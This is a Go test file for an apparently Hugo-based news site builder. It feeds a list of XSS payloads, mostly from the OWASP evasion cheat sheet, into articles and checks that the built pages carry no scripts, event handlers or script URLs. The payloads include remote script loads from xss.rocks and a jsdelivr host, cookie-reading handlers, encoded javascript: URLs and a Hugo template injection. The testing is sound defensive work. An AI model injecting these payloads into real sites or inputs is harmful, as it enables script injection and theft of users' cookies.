package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io/fs"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// xssPayloads come from the OWASP XSS Filter Evasion Cheat Sheet, with a
// few of our own for Markdown, front matter and Hugo templates.
var xssPayloads = []string{
	`<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>`,
	`javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
	`<IMG SRC="javascript:alert('XSS');">`,
	`<IMG SRC=javascript:alert('XSS')>`,
	`<IMG SRC=JaVaScRiPt:alert('XSS')>`,
	`<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
	"<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
	`<a onmouseover="alert(document.cookie)">xxs link</a>`,
	`<a onmouseover=alert(document.cookie)>xxs link</a>`,
	`<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>`,
	`<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
	`<IMG SRC=# onmouseover="alert('xxs')">`,
	`<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
	`<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
	`<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
	`<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
	"<IMG SRC=\"jav\tascript:alert('XSS');\">",
	`<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
	`<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
	"<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
	`<<SCRIPT>alert("XSS");//\<</SCRIPT>`,
	`<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
	`</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
	`<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
	`<BODY BACKGROUND="javascript:alert('XSS')">`,
	`<IMG DYNSRC="javascript:alert('XSS')">`,
	`<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
	`<svg/onload=alert('XSS')>`,
	`<BODY ONLOAD=alert('XSS')>`,
	`<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
	`<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
	`<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
	`<TABLE BACKGROUND="javascript:alert('XSS')">`,
	`<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
	`<BASE HREF="javascript:alert('XSS');//">`,
	`<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
	`<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
	`"><img src=x onerror=alert(1)>`,
	`'';!--"<XSS>=&{()}`,
	`<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`[click](javascript:alert(1)) and ![img](x" onerror="alert(1))`,
	`--- +++ {{< shortcode >}} {{% shortcode %}} {{ .Site.Params }} {{ os.Getenv "HOME" }}`,
}

// payloadArticle is an article carrying payload in its headline, outlet,
// author, address, body and a quotation.
func payloadArticle(i int, payload string) string {
	return fmt.Sprintf("Story %d: %s\nOutlet: Wire %s\nAuthor: %s\nDate: 2024-10-23\nURL: https://example.org/story?q=%s\n****\n%s\nOfficials met on Tuesday. %s\n\"%s,\" the minister said on Tuesday.\nExperts say %s could matter.\n",
		i, payload, payload, payload, url.QueryEscape(payload), payload, payload, payload, payload)
}

// TestXSSPayloads builds a site whose articles carry the payloads and a
// site whose articles carry harmless text in their place, and checks every
// page of the first: no script but JSON-LD, no event handler attribute, no
// script URL, and no element or attribute the harmless site does not have.
func TestXSSPayloads(t *testing.T) {
	if len(xssPayloads) < 30 {
		t.Fatalf("only %d payloads", len(xssPayloads))
	}
	benign, hostile := newProject(t), newProject(t)
	in := t.TempDir()
	for i, p := range xssPayloads {
		writeFileAll(t, filepath.Join(in, "hostile", fmt.Sprintf("%02d.txt", i)), payloadArticle(i, p))
		writeFileAll(t, filepath.Join(in, "benign", fmt.Sprintf("%02d.txt", i)), payloadArticle(i, fmt.Sprintf("harmless words number %d", i)))
	}
	runOK(t, "add", "--source", benign, filepath.Join(in, "benign"))
	runOK(t, "add", "--source", hostile, filepath.Join(in, "hostile"))
	runOK(t, "build", "--quiet", "--source", benign)
	runOK(t, "build", "--quiet", "--source", hostile)

	allowed := map[string]map[string]bool{} // element -> attributes seen in the harmless site
	eachPage(t, filepath.Join(benign, "public"), func(path string, doc *html.Node) {
		walkElements(doc, func(n *html.Node) {
			if allowed[n.Data] == nil {
				allowed[n.Data] = map[string]bool{}
			}
			for _, a := range n.Attr {
				allowed[n.Data][a.Key] = true
			}
		})
	})

	templateMarkup(t, allowed)

	pages := 0
	eachPage(t, filepath.Join(hostile, "public"), func(path string, doc *html.Node) {
		pages++
		for _, problem := range injected(doc, allowed) {
			t.Errorf("%s: %s", path, problem)
		}
		if base := filepath.Base(filepath.Dir(path)); strings.HasPrefix(base, "story-") {
			h1 := findElement(doc, "h1")
			if h1 == nil || !strings.HasPrefix(textOf(h1), "Story ") {
				t.Errorf("%s: no h1 with the headline as text", path)
			}
		}
	})
	if pages < len(xssPayloads) {
		t.Errorf("checked %d pages, want at least one per payload (%d)", pages, len(xssPayloads))
	}

	// The Hugo syntax reaches the page as text, never run.
	page, err := os.ReadFile(filepath.Join(hostile, "public", "explainers", fmt.Sprintf("story-%d-shortcode-shortcode-site-params-os-getenv-home", len(xssPayloads)-1), "index.html"))
	if err != nil {
		t.Fatal(err)
	}
	doc, _ := html.Parse(bytes.NewReader(page))
	if text := textOf(doc); !strings.Contains(text, `{{< shortcode >}} {{% shortcode %}} {{ .Site.Params }} {{ os.Getenv "HOME" }}`) {
		t.Errorf("the Hugo syntax is not shown as text on its page:\n%s", text)
	}
}

// injected lists what in doc could run script or did not come from the
// templates: script elements other than JSON-LD, event handler attributes,
// script URLs, style URLs, and elements or attributes not in allowed.
func injected(doc *html.Node, allowed map[string]map[string]bool) []string {
	var out []string
	walkElements(doc, func(n *html.Node) {
		if n.Data == "script" {
			if attr(n, "type") != "application/ld+json" {
				out = append(out, "a script element")
			} else if n.FirstChild != nil && !json.Valid([]byte(n.FirstChild.Data)) {
				out = append(out, fmt.Sprintf("JSON-LD that is not JSON: %q", n.FirstChild.Data))
			}
		}
		if allowed[n.Data] == nil {
			out = append(out, fmt.Sprintf("<%s>, an element the harmless site does not have", n.Data))
			return
		}
		for _, a := range n.Attr {
			key := strings.ToLower(a.Key)
			switch {
			case strings.HasPrefix(key, "on"):
				out = append(out, fmt.Sprintf("<%s>: event handler %s=%q", n.Data, a.Key, a.Val))
			case !allowed[n.Data][a.Key]:
				out = append(out, fmt.Sprintf("<%s>: attribute %s=%q the harmless site does not have", n.Data, a.Key, a.Val))
			case urlAttrs[key] && scriptURL(a.Val):
				out = append(out, fmt.Sprintf("<%s>: script URL %s=%q", n.Data, a.Key, a.Val))
			case key == "style" && strings.Contains(strings.ToLower(a.Val), "url("):
				out = append(out, fmt.Sprintf("<%s>: style with a URL %q", n.Data, a.Val))
			}
		}
	})
	return out
}

// TestInjected checks the checker: each snippet must be caught.
func TestInjected(t *testing.T) {
	allowed := map[string]map[string]bool{
		"html": {}, "head": {}, "body": {}, "p": {}, "script": {"type": true},
		"a": {"href": true, "class": true}, "div": {"style": true},
	}
	for _, snippet := range []string{
		`<script>alert(1)</script>`,
		`<script type="application/ld+json">{"a":</script>`,
		`<img src=x onerror=alert(1)>`,
		`<p onclick="alert(1)">x</p>`,
		`<a href=" java&#x09;script:alert(1)">x</a>`,
		`<a href="x" title="y">x</a>`,
		`<div style="background: url(javascript:alert(1))">x</div>`,
	} {
		doc, err := html.Parse(strings.NewReader(snippet))
		if err != nil {
			t.Fatal(err)
		}
		if len(injected(doc, allowed)) == 0 {
			t.Errorf("injected(%q) found nothing", snippet)
		}
	}
	doc, _ := html.Parse(strings.NewReader(`<p>&lt;script&gt;alert(1)&lt;/script&gt; <a class="src" href="#p1">1</a></p><script type="application/ld+json">{"a":"\u003c/script\u003e"}</script>`))
	if got := injected(doc, allowed); len(got) > 0 {
		t.Errorf("injected(escaped text) = %q, want nothing", got)
	}
}

// urlAttrs are attributes whose value a browser loads or follows.
var urlAttrs = map[string]bool{
	"href": true, "src": true, "action": true, "formaction": true, "background": true, "lowsrc": true,
	"dynsrc": true, "poster": true, "data": true, "codebase": true, "xlink:href": true, "srcset": true,
	"cite": true, "longdesc": true, "ping": true, "manifest": true, "content": false,
}

// scriptURL reports whether v, as a browser reads it, is a javascript:,
// vbscript: or data: URL.
func scriptURL(v string) bool {
	v = strings.Map(func(r rune) rune {
		if r <= ' ' {
			return -1
		}
		return r
	}, strings.ToLower(v))
	if strings.HasPrefix(v, "data:image/") {
		return false // the offline files' inlined icons; an image cannot run script
	}
	return strings.HasPrefix(v, "javascript:") || strings.HasPrefix(v, "vbscript:") || strings.HasPrefix(v, "data:")
}

// templateMarkup adds to allowed every element and attribute written in the
// layouts, so that parts the harmless articles happen not to fill (a list of
// experts, say) do not count as injected.
func templateMarkup(t *testing.T, allowed map[string]map[string]bool) {
	t.Helper()
	tag := regexp.MustCompile(`<([a-z][a-z0-9]*)\b([^<>]*)>`)
	attrName := regexp.MustCompile(`\s([a-z][a-z0-9-]*)=`)
	err := filepath.WalkDir(filepath.Join("..", "..", "layouts"), func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		data, err := os.ReadFile(path)
		for _, m := range tag.FindAllStringSubmatch(string(data), -1) {
			if allowed[m[1]] == nil {
				allowed[m[1]] = map[string]bool{}
			}
			for _, a := range attrName.FindAllStringSubmatch(m[2], -1) {
				allowed[m[1]][a[1]] = true
			}
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
}

func eachPage(t *testing.T, dir string, f func(path string, doc *html.Node)) {
	t.Helper()
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || !strings.HasSuffix(path, ".html") {
			return err
		}
		data, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		doc, err := html.Parse(bytes.NewReader(data))
		if err != nil {
			return err
		}
		f(path, doc)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}

func findElement(n *html.Node, tag string) *html.Node {
	if n.Type == html.ElementNode && n.Data == tag {
		return n
	}
	for c := n.FirstChild; c != nil; c = c.NextSibling {
		if found := findElement(c, tag); found != nil {
			return found
		}
	}
	return nil
}

func writeFileAll(t *testing.T, path, data string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	writeFile(t, path, data)
}
